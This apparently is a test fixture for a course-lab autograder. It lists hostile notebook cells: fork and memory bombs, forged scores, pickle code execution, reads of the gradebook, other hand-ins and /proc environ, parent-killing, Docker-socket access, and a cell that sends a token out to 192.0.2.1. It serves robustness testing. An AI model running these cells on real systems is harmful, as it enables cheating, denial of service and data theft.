"""What strangers put into a solution cell: each with the score it deserves of the 4 points, 1 before it and 1 after.

The cell stands between an honest one before it (question 9.1, 1 point) and one after it (9.3, 1 point); its own
question (9.2, 2 points) asks for a number that only ``checks.py`` knows. ``{...}`` are filled in by the test.
"""

# ruff: noqa: E501  (each attack is a line)

from __future__ import annotations

from dataclasses import dataclass

BOTH, BEFORE, NOTHING, ALL = 2.0, 1.0, 0.0, 4.0


@dataclass(frozen=True)
class Attack:
    """One cell, the score it must get, and whether it takes so long that its program is ended."""

    name: str
    code: str
    score: float
    slow: bool = False
    watched: float | None = None
    """The score on the rung where disk is counted from outside, and who takes too much is ended."""


ATTACKS = (
    # ends and crashes
    Attack("raises", "raise RuntimeError('no')", BOTH),
    Attack("syntax error", "def (", BOTH),
    Attack("exits politely", "import sys; sys.exit(0)", BOTH),
    Attack("exits at once", "import os; os._exit(0)", BEFORE),
    Attack("kills itself", "import os, signal; os.kill(os.getpid(), signal.SIGKILL)", BEFORE),
    Attack("crashes the interpreter", "import ctypes; ctypes.string_at(0)", BEFORE),
    Attack("raises SystemExit in display", "class X:\n    def __repr__(self): raise SystemExit\nX()", BOTH),
    Attack("raises KeyboardInterrupt", "raise KeyboardInterrupt", BOTH),
    Attack("recurses", "def f(): return f()\nf()", BOTH),
    Attack("redefines builtins", "import builtins\nfor n in ('print', 'len', 'isinstance'): setattr(builtins, n, None)", BEFORE),
    # loops
    Attack("loops", "while True: pass", BOTH, slow=True),
    Attack("loops and swallows interrupts", "while True:\n    try:\n        while True: sum(range(1000))\n    except BaseException: pass", BEFORE, slow=True),
    Attack("ignores SIGINT", "import signal; signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass", BEFORE, slow=True),
    Attack("sleeps", "import time; time.sleep(1000)", BOTH, slow=True),
    Attack("waits in C", "import threading; threading.Lock().acquire(); l = threading.Lock(); l.acquire(); l.acquire()", BOTH, slow=True),
    Attack("a regular expression without end", "import re; re.match(r'(a+)+$', 'a' * 40 + 'b')", BOTH, slow=True),
    Attack("reads what never comes", "input()", BOTH),
    # resources
    Attack("a memory bomb", "x = bytearray(64 << 30)", BOTH),
    Attack("memory bit by bit", "x = []\nwhile True: x.append(bytearray(50_000_000))", BOTH, slow=True),
    Attack("memory of many", "import os\nfor _ in range(8):\n    if os.fork() == 0:\n        x = bytearray(b'x') * (400 << 20)\n        import time; time.sleep(60)", BOTH, slow=True),
    Attack("a fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", BEFORE, slow=True),
    Attack("threads", "import threading, time\nfor _ in range(5000): threading.Thread(target=time.sleep, args=(100,), daemon=True).start()", BOTH, slow=True),
    Attack("a full disk", "f = open('big', 'wb')\nfor _ in range(4096): f.write(b'x' * (1 << 20))", BOTH),
    Attack("many files", "for n in range(100_000): open(f'f{{n}}', 'w').write('x' * 4000)", BOTH, slow=True, watched=BEFORE),
    Attack("many descriptors", "k = [open('/dev/null') for _ in range(100_000)]", BOTH),
    Attack("endless output", "while True: print('x' * 10_000)", BOTH, slow=True),
    Attack("huge output", "print('y' * 200_000_000)", BOTH),
    Attack("huge repr", "class H:\n    def __repr__(self): return 'z' * 50_000_000\nH()", BOTH),
    Attack("a thousand displays", "from IPython.display import display\nfor n in range(5000): display(n)", BOTH),
    # forging
    Attack("prints points", "print('2.0')\n2.0", BOTH),
    Attack("a score of its own", "class L:\n    def score(self, q): return 2.0\n    def __getattr__(self, n): return lambda *a, **k: None\nhonest = lab; lab = L()\nlab = honest", BOTH),
    Attack("replaces lab for good", "lab = type('L', (), {{'score': lambda s, q: 99.0}})()", BOTH),
    Attack("replaces run_code", "ip = get_ipython()\nasync def run(*a, **k): return False\nip.run_code = run", BEFORE),
    Attack("an input transformer", "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])", BEFORE),
    Attack("a display hook", "import sys\nsys.displayhook = lambda v: None\nget_ipython().display_trap.hook = None", BOTH),
    Attack("patches the client", "import ecslab.client.lab as m\nm.Lab.check = lambda s, q, answer=None: True\nm.Lab.score = lambda s, q: 2.0", BOTH),
    Attack("answers on every descriptor", "import os, json, struct\nd = json.dumps({{'id': 1, 'question': {{'score': 2.0}}, 'error': '', 'outputs': []}}).encode()\nfor fd in range(3, 256):\n    try: os.write(fd, struct.pack('!I', len(d)) + d)\n    except OSError: pass", BOTH),
    Attack("garbage on every descriptor", "import os\nfor fd in range(3, 256):\n    try: os.write(fd, b'\\xff' * 64)\n    except OSError: pass", BEFORE),
    Attack("closes every descriptor", "import os\nos.closerange(3, 4096)", BEFORE),
    Attack("an event of the grader", "import os\nfor fd in range(3, 256):\n    try: os.write(fd, b'{{\"question\": {{\"grade_id\": \"q9-2-score\", \"score\": 2.0}}}}\\n')\n    except OSError: pass", BEFORE),
    Attack("a pickle", "import pickle, os\nclass P:\n    def __reduce__(self): return (os.system, ('touch {marker}',))\nlab.answer('9.2', pickle.dumps(P()).hex())", BOTH),
    Attack("an answer of another type", "lab.answer('9.2', {{'__eq__': True}})", BOTH),
    Attack("guesses with lab.check", "for n in range(300):\n    if lab.check('9.2', n): break", BOTH),
    Attack("asks for the solution", "exec(lab.solution('9.2').text)", BOTH),
    # the endpoint
    Attack("resets the lab", "lab.reset()", BOTH),
    Attack("shuts the lab down", "lab._transport.post('shutdown')", BOTH),
    Attack("moto's admin routes", "import urllib.request\nurllib.request.urlopen(urllib.request.Request(lab.endpoint + '/moto-api/reset', b'', method='POST'))", BOTH),
    Attack("moto's data", "import urllib.request\nprint(urllib.request.urlopen(lab.endpoint + '/moto-api/data.json').read())", BOTH),
    Attack("runs code in a Lambda function", "lab.client('lambda').list_functions()", BOTH),
    Attack("moves time for ever", "lab.time.advance(hours=24 * 365 * 10)", BOTH),
    Attack("moves time backwards", "lab._transport.post('time', advance=-3600)", BOTH),
    Attack("time that is no number", "lab._transport.post('time', advance=float('nan'))", BOTH),
    Attack("a request without end", "import socket, urllib.parse\nu = urllib.parse.urlsplit(lab.endpoint)\ns = [socket.create_connection((u.hostname, u.port)) for _ in range(60)]\nfor c in s: c.send(b'POST /_ecslab/check HTTP/1.1\\r\\nContent-Length: 99999999\\r\\n')", BOTH),
    Attack("a body as deep as the sea", "import urllib.request\nurllib.request.urlopen(urllib.request.Request(lab.endpoint + '/_ecslab/answers', b'[' * 100_000, method='POST'))", BOTH),
    Attack("a message elsewhere by SNS", "s = lab.client('sns'); t = s.create_topic(Name='t')['TopicArn']\ns.subscribe(TopicArn=t, Protocol='http', Endpoint='http://127.0.0.1:22/')\ns.publish(TopicArn=t, Message='{secret}')", BOTH),
    Attack("undoes what has been scored", "import threading\nthreading.Timer(0.05, lambda: ecs.delete_cluster(cluster='first')).start()\necs.delete_cluster(cluster='first')", BOTH),
    Attack("fills the lab", "for n in range(3000): lab.answer('9.2', 'x' * 500_000)", BEFORE),
    # files and processes
    Attack("reads the checks", "import glob\nfor p in glob.glob('{labs}/**', recursive=True) + ['{labs}/09-hostile/checks.py']:\n    try: text = open(p).read(); print(text)\n    except OSError: continue\n    if 'NUMBER = ' in text: lab.answer('9.2', int(text.split('NUMBER = ')[1].split()[0]))", BOTH),
    Attack("reads another's hand-in", "print(open('{course}/submitted/other/09-hostile/09-hostile.ipynb').read())", BOTH),
    Attack("reads the gradebook", "import sqlite3; print(sqlite3.connect('{course}/gradebook.db').execute('select * from secret').fetchall())", BOTH),
    Attack("writes the gradebook", "open('{course}/gradebook.db', 'a').write('mine')", BOTH),
    Attack("writes everywhere", "import os\nfor p in ('{course}', '{labs}', '/tmp', '/var/tmp', os.path.expanduser('~'), '/dev/shm', '..', '/usr/lib'):\n    try: open(p + '/{token}', 'w').write('mine')\n    except OSError: pass", BOTH),
    Attack("a link out", "import os\nos.symlink('{course}/gradebook.db', 'link'); print(open('link').read())", BOTH),
    Attack("its own program's memory", "import os\nprint(open(f'/proc/{{os.getppid()}}/environ').read(), open(f'/proc/{{os.getppid()}}/mem', 'rb').read(10))", BOTH),
    Attack("kills its parents", "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    for s in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):\n        try: os.kill(pid, s)\n        except OSError: pass", BOTH),
    Attack("traces its parent", "import ctypes, os\nif ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0: lab.answer('9.2', 'traced')", BOTH),
    Attack("leaves a daemon behind", "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os, time; os.setsid(); time.sleep(600)', '{token}'], start_new_session=True)", BOTH),
    Attack("leaves a daemon's child behind", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execvp('sleep', ['sleep', '{seconds}'])\n    os._exit(0)", BOTH),
    Attack("dials out", "import socket\nfor where in (('127.0.0.1', {port}), ('192.0.2.1', 80)):\n    try: socket.create_connection(where, timeout=1).send(b'{token}')\n    except OSError: pass", BOTH),
    Attack("sends datagrams", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{token}', ('127.0.0.1', {port}))", BOTH),
    Attack("the engine's socket", "import socket\ns = socket.socket(socket.AF_UNIX); s.connect('/var/run/docker.sock'); s.send(b'GET /info HTTP/1.0\\r\\n\\r\\n'); print(s.recv(100))", BOTH),
    Attack("a namespace of its own", "import ctypes\nassert ctypes.CDLL(None).unshare(0x10000000) == 0, 'refused'", BOTH),
    Attack("the environment", "import os; print(dict(os.environ)); assert '{secret}' not in str(dict(os.environ))", BOTH),
    Attack("changes modules for the next", "import ecslab.client.lab, json\necslab.client.lab.Lab.answer = lambda *a: None\njson.dumps = lambda *a, **k: '{{}}'", BEFORE),
    Attack("changes the interpreter's files", "import sys, os\nfor p in sys.path:\n    try: open(os.path.join(p, 'sitecustomize.py'), 'w').write('x')\n    except OSError: pass", BOTH),
    # feedback
    Attack("scripts in its output", "from IPython.display import HTML, Javascript, display\ndisplay(HTML('<script>alert(\"{token}\")</script>')); display(Javascript('alert(1)')); print('<script>alert(\"{token}\")</script>')", BOTH),
    Attack("a picture that is none", "from IPython.display import display\ndisplay({{'image/png': '\"><script>alert(1)</script>', 'text/html': '<script>1</script>'}}, raw=True)", BOTH),
    # an honest one, for comparison
    Attack("a warning on stderr", "import warnings, sys\nwarnings.warn('old'); print('careful', file=sys.stderr)\nlab.answer('9.2', {number})", ALL),
)  # fmt: skip
